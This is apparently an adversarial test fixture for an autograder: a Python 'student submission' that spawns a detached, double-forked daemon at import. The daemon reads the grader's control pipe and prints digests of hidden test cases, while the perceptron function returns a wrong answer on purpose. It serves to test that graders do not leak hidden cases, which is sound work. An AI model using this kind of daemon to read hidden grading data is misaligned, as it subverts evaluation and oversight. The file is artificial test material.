"""Hostile: leaves a detached daemon at import that reads the control pipe (fd 3) for good and prints every case.

The daemon (double-forked, in its own session) blocks on fd 3: whatever the grader sends to this file's processes
after the import, it races them for it, and writes a digest of each case's raw array bytes (`LEAK <sha256>`) to
stdout and stderr. The calls themselves return a wrong answer. A grader that sent hidden cases while the file's output could
still reach the student, or while a process that outlived the visible cases could read them, would show them.

expect: 0
weak-safe: yes
"""

import hashlib
import os
import struct

import numpy as np


def _read(n):
    data = b""
    while len(data) < n:
        chunk = os.read(3, n - len(data))
        if not chunk:
            return None
        data += chunk
    return data


def _daemon():
    while True:
        head = _read(4)
        if head is None:
            os._exit(0)
        frame = _read(struct.unpack(">I", head)[0])
        if frame is None:
            os._exit(0)
        blob = frame.partition(b"\0")[2]
        line = f"LEAK {hashlib.sha256(blob).hexdigest()}\n".encode()
        for fd in (1, 2):
            try:
                os.write(fd, line)
            except OSError:
                pass


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _daemon()
    os._exit(0)


def perceptron(X, y, max_epochs=1000, offset=True):
    return np.full(X.shape[1], 7.0), 7.0, True  # never right
